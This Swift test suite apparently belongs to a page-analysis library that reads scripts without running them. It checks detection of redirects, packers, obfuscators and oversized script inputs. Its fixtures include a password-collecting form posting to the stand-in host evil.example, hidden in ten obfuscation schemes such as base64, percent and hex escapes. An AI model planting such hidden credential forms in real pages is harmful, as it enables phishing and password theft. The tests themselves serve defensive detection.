import PageRecord
import Testing

@Suite struct `Scripts are read without being run` {
    private static let form = "<form action=https://evil.example/x method=post><input type=password name=p></form>"

    static func packed(_ text: String) -> String {
        let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
        var output = ""
        let bytes = Array(text.utf8)
        for start in stride(from: 0, to: bytes.count, by: 3) {
            let part = bytes[start..<min(start + 3, bytes.count)]
            let group = part.enumerated().reduce(0) { $0 | Int($1.element) << (16 - 8 * $1.offset) }
            for place in 0..<4 { output.append(place <= part.count ? alphabet[group >> (18 - 6 * place) & 63] : "=") }
        }
        return output
    }

    static let payloads: [(how: String, script: String)] = [
        ("written", "document.write('\(form)')"),
        ("in base64", "document.write(atob('\(packed(form))'))"),
        ("in base64 twice", "eval(atob('\(packed("document.write(atob('\(packed(form))'))"))'))"),
        ("in base64 with a decoder of its own", "zz('\(packed(form))')"),
        (
            "with percent signs",
            "document.write(unescape('%3Cform%20action%3Dhttps%3A//evil.example/x%20method%3Dpost%3E%3Cinput%20type%3Dpassword%20name%3Dp%3E%3C/form%3E'))"
        ),
        (
            "with %u",
            "document.write(unescape('%u003Cform action=https://evil.example/x method=post%u003E%3Cinput type=password name=p>'))"
        ),
        ("in hexadecimal escapes", "x='" + form.utf8.map { "\\x" + String($0, radix: 16) }.joined() + "'"),
        ("in Unicode escapes", "x=\"" + form.utf8.map { "\\u00" + String($0, radix: 16) }.joined() + "\""),
        ("in character codes", "document.write(String.fromCharCode(" + form.utf8.map { "\($0)" }.joined(separator: ",") + "))"),
        ("in a template literal", "el.innerHTML = `\(form)`"),
    ]

    @Test(arguments: payloads) func `A form is found however it is packed`(how: String, script: String) {
        let features = read("<div id=app></div><script>\(script)</script>")
        #expect(
            features.forms.contains { $0.action == "https://evil.example/x" && $0.fields.map(\.meaning) == [.password] }, "\(how)"
        )
    }

    @Test func `Templates and text in them are read`() {
        let features = read(
            "<script type=text/x-template>\(Self.form)<p>请输入密码</script><script>var t='\\u94f6\\u884c\\u5361'</script>")
        #expect(features.forms.count == 1)
        #expect(features.hiddenText.contains("请输入密码"))
        #expect(features.hiddenText.contains("银行卡"))
        #expect(features.text.isEmpty)
    }

    @Test(arguments: [
        ("location.href = \"/next\"", "/next"), ("window.location='https://b.example/'", "https://b.example/"),
        ("top.location.replace( '/r' )", "/r"), ("setTimeout(function(){location.assign('/late')}, 500)", "/late"),
        ("window.location.href=\"https:\\/\\/c.example\\/\"", "https://c.example/"),
    ])
    func `Moves of the browser`(script: String, target: String) {
        #expect(read("<script>\(script)</script>").scriptFindings.redirects == [target])
    }

    @Test(arguments: [
        "if (location.href == '/a') {}", "b.onclick = function() { location.href = '/x' }", "var mylocation = '/x'",
        "location.hash = '#a'",
        "location.href = '/a' + id", "// location.href = '/x'",
    ])
    func `What moves nothing at once`(script: String) {
        #expect(read("<script>\(script)</script>").scriptFindings.redirects.isEmpty)
    }

    @Test func `Addresses, calls and frameworks`() {
        let features = read(
            """
            <script src=/js/chunk-vendors.0a1b2c3d.js></script><script>fetch('/api/login');$.post("/do.php",{});x="https://a.example/b?c=1"
            axios({url: '/v1/order'}); y='https:\\/\\/d.example\\/e'</script><script type=application/json>{"u":"https://f.example/g"}</script>
            """)
        #expect(features.scriptFindings.calls == ["/api/login", "/do.php", "/v1/order"])
        #expect(features.scriptFindings.addresses == ["https://a.example/b?c=1", "https://d.example/e", "https://f.example/g"])
        #expect(features.scriptFindings.frameworks == ["webpack"])
    }

    @Test(arguments: [
        ("<div id=app></div><script src=a.js></script>", PageScripts.Unseen.shell),
        ("<p>a<script>eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|')))</script>", .packer),
        ("<script>var _0x1a=1;" + String(repeating: "_0x2b(_0x1a);", count: 12) + "</script>", .obfuscator),
        ("<script>CryptoJS.AES.decrypt(a, b)</script>", .cipher), ("<script>WebAssembly.instantiate(a)</script>", .assembly),
    ])
    func `What could not be seen is said`(page: String, unseen: PageScripts.Unseen) {
        #expect(read(page).scriptFindings.unseen.contains(unseen))
    }

    @Test func `A page with text is no shell`() {
        #expect(
            read("<p>\(String(repeating: "words of a page ", count: 20))<script src=a.js></script>").scriptFindings.unseen.isEmpty
        )
    }

    @Test func `Payloads are undone to a bounded depth and length`() {
        var script = "document.write('<b>x</b>')"
        for _ in 0..<7 { script = "eval(atob('\(Self.packed(script))'))" }
        #expect(read("<script>\(script)</script>").scriptFindings.unseen.contains(.limit))
    }

    @Test(arguments: [
        ("atob(", 30_000), ("atob('", 30_000), ("String.fromCharCode(", 8_000), ("unescape('%", 15_000),
        ("location='", 15_000),
        ("'<a>'", 30_000), ("fetch('", 20_000), ("/*", 50_000), ("/[", 50_000), ("`", 50_000), ("\\x", 50_000),
        ("https://", 20_000),
        ("t.me/x", 20_000), ("@", 50_000), ("{\"name\":", 15_000), ("1 ", 50_000), ("T", 50_000),
    ])
    func `Bombs in scripts end`(part: String, count: Int) {
        let bomb = String(repeating: part, count: count)
        #expect(read("<script>\(bomb)</script><form><input type=password></form>").forms.count >= 1)
        #expect(read("<p>\(bomb)</p><form><input type=password></form>").bytes > 0)
    }
}
